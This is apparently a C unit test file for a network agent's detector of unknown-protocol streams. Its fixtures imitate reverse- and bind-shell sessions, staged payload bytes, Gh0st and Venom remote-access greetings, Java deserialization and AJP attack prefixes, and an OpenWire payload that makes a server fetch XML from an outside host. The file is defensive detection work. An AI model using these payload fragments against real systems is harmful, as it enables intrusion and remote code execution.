/* SPDX-License-Identifier: Apache-2.0 */
/* What is recognised in streams of no known protocol, and what is not. */
#include "dialog.h"

#include "agent/net/proto/raw_sealed.h"

static const struct line UNIX[] = {{0, TEXT("bash: no job control in this shell\nroot@till:/# ")},
                                   {1, TEXT("whoami\n")},
                                   {0, TEXT("root\nroot@till:/# ")},
                                   {1, TEXT("id\n")},
                                   {0, TEXT("uid=0(root) gid=0(root)\nroot@till:/# ")}};
static const struct line BOUND[] = {
    {1, TEXT("Microsoft Windows [Version 10.0.19045]\r\n\r\nC:\\>")},
    {0, TEXT("dir\r\n")},
    {1, TEXT(" Volume Serial Number is 1\r\nC:\\>")}};
static const struct line STAGE[] = {{1, TEXT("\0\x10\0\0")},
                                    {1, TEXT("MZ\x90\0\3\0\0\0\4\0\0\0\0\0")}};
static const struct line GREETING[] = {
    {1, TEXT("HELLO|1\r\n")},
    {0, TEXT("HELLO|192.168.1.5|MX|victim|ana|Windows 10 Pro|Intel\r\n")}};
static const struct line GHOST[] = {
    {0, TEXT("Gh0st\x17\0\0\0\x40\0\0\0\x78\x9c\x01\x02\x03\x04\x05\x06\x07\x08")}};
#define NOBODY "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
static const struct line VENOM[] = {
    {0, TEXT("ABCDEFGHVCMD\0\0" NOBODY NOBODY "\0\0\0\0\0\0\0\x26\0\0\0\1\0\0" NOBODY)}};
static const struct line NUMBERS[] = {
    {0, TEXT("ABCDEFGHVCMD\0\1" NOBODY NOBODY "\0\0\0\0\0\0\0\x26")}};
static const struct line CARD[] = {
    {0, TEXT("{\"monto\":120,\"tarjeta\":\"4111 1111 1111 1111\",\"vence\":\"12/27\"}\n")}};
static const struct line SCALE[] = {{0, TEXT("W\r\n")},
                                    {1, TEXT("ST,GS,+  1.25 kg\r\n")},
                                    {0, TEXT("W\r\n")},
                                    {1, TEXT("ST,GS,+  1.26 kg\r\n")}};
static const struct line PRICES[] = {{0, TEXT("total > 100 # \n")}, {1, TEXT("cost $ \n")}};

static const struct line T3[] = {{0, TEXT("t3 12.2.1\nAS:255\nHL:19\n\n")},
                                 {1, TEXT("HELO:12.2.1.3.0.false\nAS:2048\n\n")},
                                 {0, TEXT("\0\0\5\xf8\1\x65\1\xac\xed\0\5sr\0\x32sun.reflect."
                                          "javax.management.BadAttributeValueExpException\0")}};
static const struct line RMI[] = {
    {0, TEXT("JRMI\0\2K")},
    {1, TEXT("N\0\x09"
             "10.0.0.2\0\0")},
    {0, TEXT("P\xac\xed\0\5w\x22\0sr\0.java.rmi.server.RemoteObjectInvocationHandler\0")}};
static const struct line OPENWIRE[] = {
    {0, TEXT("\0\0\0\x7a\x1f\0\0\0\0\0\0\0\0\0\1\1\0\x42org.springframework.context.support."
             "ClassPathXmlApplicationContext\1\0\x1ehttp://198.51.100.7/a.xml")}};
static const struct line AJP[] = {{0, TEXT("\x12\x34\0\x80\2\2\0\x08HTTP/1.1\0\0\1/\0\x0a\0\x21"
                                           "javax.servlet.include.request_uri\0\0\1/\0")}};
/* An object of a shop's own program, and talk about such classes. */
static const struct line OBJECT[] = {
    {0,
     TEXT("\xac\xed\0\5sr\0\x11java.util.HashMap\5\7\xda\xc1\xc3\x16`\xd1\3\0\2F\0\nloadFactor")}};
static const struct line TALK[] = {
    {0, TEXT("update org.apache.commons.collections, javax.servlet.include.request_uri\n")}};

static const struct {
    const char *name, *record;
    const struct line *lines;
    size_t count;
    bool whole_only; /* the record needs its first segment whole */
} CASES[] = {
    {"unix", "\"shell\":\"unix\",\"by_client\":true", UNIX, VG_ARRAY_LEN(UNIX), false},
    {"bound", "\"shell\":\"cmd\",\"by_client\":false", BOUND, VG_ARRAY_LEN(BOUND), false},
    {"stage", "\"staged\":true,\"executable\":false,\"pushed_by_client\":false", STAGE,
     VG_ARRAY_LEN(STAGE), false},
    {"greeting", "\"greeting\":\"fields\",\"greeting_by_client\":true", GREETING,
     VG_ARRAY_LEN(GREETING), false},
    {"gh0st", "\"greeting\":\"gh0st\"", GHOST, VG_ARRAY_LEN(GHOST), true},
    {"venom", "\"tunnel\":\"venom\"", VENOM, VG_ARRAY_LEN(VENOM), false},
    {"numbers", NULL, NUMBERS, VG_ARRAY_LEN(NUMBERS), false},
    {"card", "\"service\":\"raw\",\"from_server\":false,\"cards\":1,\"last4\":\"1111\"", CARD,
     VG_ARRAY_LEN(CARD), true},
    {"t3", "\"attack\":\"java_object\",\"attack_by_client\":true", T3, VG_ARRAY_LEN(T3), true},
    {"rmi", "\"attack\":\"java_reference\"", RMI, VG_ARRAY_LEN(RMI), true},
    {"openwire", "\"attack\":\"spring_context\"", OPENWIRE, VG_ARRAY_LEN(OPENWIRE), true},
    {"ajp", "\"attack\":\"ajp_include\"", AJP, VG_ARRAY_LEN(AJP), true},
    {"object", NULL, OBJECT, VG_ARRAY_LEN(OBJECT), false},
    {"talk", NULL, TALK, VG_ARRAY_LEN(TALK), false},
    {"scale", NULL, SCALE, VG_ARRAY_LEN(SCALE), false},
    {"prices", NULL, PRICES, VG_ARRAY_LEN(PRICES), false},
};

static void
test_streams(void **state)
{
    static const size_t pieces[] = {1, 5, DIALOG_WHOLE};

    (void)state;
    for (size_t c = 0; c < VG_ARRAY_LEN(CASES); c++) {
        for (unsigned i = CASES[c].whole_only ? 2 : 0; i < 3; i++) {
            struct kit_log log;

            dialog_tcp(&log, CASES[c].lines, CASES[c].count, 4444, pieces[i]);
            if (log.count[OBS_RECORD] != (CASES[c].record != NULL))
                fail_msg("%s in pieces of %zu", CASES[c].name, pieces[i]);
            assert_int_equal(log.count[OBS_RECORD], CASES[c].record != NULL);
            assert_true(CASES[c].record == NULL || kit_says(&log, CASES[c].record));
            assert_true(kit_says(&log, "\"protocol\":\"\""));
            assert_false(kit_says(&log, "whoami")); /* the texts stay inside */
            kit_log_free(&log);
        }
        dialog_survives_cuts(CASES[c].lines, CASES[c].count, 4444, false);
    }
}

/* Bytes as if drawn by lot. */
static void
draw(uint8_t *out, size_t len, uint64_t seed)
{
    for (size_t i = 0; i < len; i++) {
        seed = seed * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
        out[i] = (uint8_t)(seed >> 56);
    }
}

static bool
says_sealed(const struct line *lines, size_t count)
{
    struct kit_log log;
    bool sealed;

    dialog_tcp(&log, lines, count, 4444, DIALOG_WHOLE);
    sealed = kit_says(&log, "\"sealed\":true");
    kit_log_free(&log);
    return sealed;
}

/* Enciphered from the first byte on, both ways; not with a header, and not one way only. */
static void
test_sealed(void **state)
{
    uint8_t up[300], down[300], head[300] = {0, 0, 0, 40, 1, 0, 0, 2};
    const struct line both[] = {{0, up, 300}, {1, down, 300}};
    const struct line text[] = {
        {0, up, 300},
        {1, TEXT("hello, this is a text of a server that has some words to say for itself")}};
    const struct line short_one[] = {{0, up, 300}, {1, down, RAW_SEALED_MIN - 1}};
    const struct line zeros[] = {{0, up, 300}, {1, head, 300}};

    (void)state;
    draw(up, sizeof(up), 1);
    draw(down, sizeof(down), 2);
    draw(head + 60, sizeof(head) - 60, 3);
    assert_true(says_sealed(both, 2));
    assert_false(says_sealed(text, 2));
    assert_false(says_sealed(short_one, 2));
    assert_false(says_sealed(zeros, 2));
    dialog_survives_cuts(both, 2, 4444, false);
}

/* Of bytes drawn by lot nearly all are known; of what is not, none. */
static void
test_share_of_sealed(void **state)
{
    unsigned seen = 0;
    uint8_t head[86];

    (void)state;
    for (uint64_t i = 0; i < 1000; i++) {
        draw(head, sizeof(head), i * 977);
        seen += raw_sealed(slice_of(head, sizeof(head)));
    }
    assert_true(seen > 960);
    for (size_t i = 0; i < sizeof(head); i++)
        head[i] =
            (uint8_t)("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[head[i] %
                                                                                         64]);
    assert_false(raw_sealed(slice_of(head, sizeof(head)))); /* base64 */
    for (size_t i = 0; i < sizeof(head); i++)
        head[i] = (uint8_t)(i % 12);
    assert_false(raw_sealed(slice_of(head, sizeof(head))));
}

int
main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_streams),
                                       cmocka_unit_test(test_sealed),
                                       cmocka_unit_test(test_share_of_sealed)};

    return cmocka_run_group_tests(tests, NULL, NULL);
}
